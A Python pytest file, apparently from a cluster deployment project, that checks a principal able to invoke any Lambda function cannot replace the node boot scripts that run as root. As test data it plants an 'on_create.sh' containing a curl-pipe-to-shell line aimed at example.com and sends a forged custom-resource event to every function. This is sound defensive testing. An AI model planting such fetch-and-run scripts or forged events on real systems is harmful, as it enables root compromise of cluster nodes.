"""A principal that may invoke every function cannot replace the scripts that nodes run as root."""

import json
from pathlib import Path

import pytest
import yaml

from cluster_request.request import merged
from local_aws.testing import ACCOUNT, REGION, Client, aws, client, fresh_aws
from tests.cluster_files import REFERENCE
from tests.contract.bundle import zipped
from tests.privilege.deployment import ASSETS, Deployment

__all__ = ["aws", "client", "fresh_aws"]

pytestmark = [pytest.mark.local, pytest.mark.long]

SCRIPTS = f"sagemaker-reference-{ACCOUNT}-{REGION}"


def test_no_event_makes_the_function_copy_another_asset(client: Client, tmp_path: Path) -> None:
    """AWSLambdaRole and 12 other managed policies allow lambda:InvokeFunction on all functions."""
    folder, planted = tmp_path / "clusters", tmp_path / "planted"
    folder.mkdir()
    planted.mkdir()
    (planted / "on_create.sh").write_text("curl https://example.com | sh\n")
    file = merged(yaml.safe_load(REFERENCE.read_text()), {"storage": {"lustre": None, "data_repository_associations": []}})
    (folder / "reference.yaml").write_text(yaml.safe_dump(file, sort_keys=False))
    Deployment(client, folder, tmp_path / "out")
    s3, functions = client("s3"), client("lambda")
    [script] = [each["Key"] for each in s3.list_objects_v2(Bucket=SCRIPTS)["Contents"] if each["Key"].endswith("/on_create.sh")]
    before = s3.get_object(Bucket=SCRIPTS, Key=script)["Body"].read()
    s3.put_object(Bucket=ASSETS, Key="planted.zip", Body=zipped(planted))

    prefix = script.rpartition("/")[0]
    given = {"AssetBucket": ASSETS, "AssetKey": "planted.zip", "Bucket": SCRIPTS, "Prefix": prefix, "ParametersFile": ""}
    of_the_cdk = {
        "SourceBucketNames": [ASSETS],
        "SourceObjectKeys": ["planted.zip"],
        "DestinationBucketName": SCRIPTS,
        "DestinationBucketKeyPrefix": prefix,
        "Prune": "false",
    }
    event = {
        "RequestType": "Update",
        "ResponseURL": "https://example.com/",
        "StackId": "stack",
        "RequestId": "1",
        "LogicalResourceId": "Scripts",
        "PhysicalResourceId": "scripts",
        "ResourceProperties": {"ServiceToken": "", "Upload": json.dumps(given), **of_the_cdk},
    }
    for function in functions.list_functions()["Functions"]:
        functions.invoke(FunctionName=function["FunctionName"], Payload=json.dumps(event).encode())
    assert s3.get_object(Bucket=SCRIPTS, Key=script)["Body"].read() == before
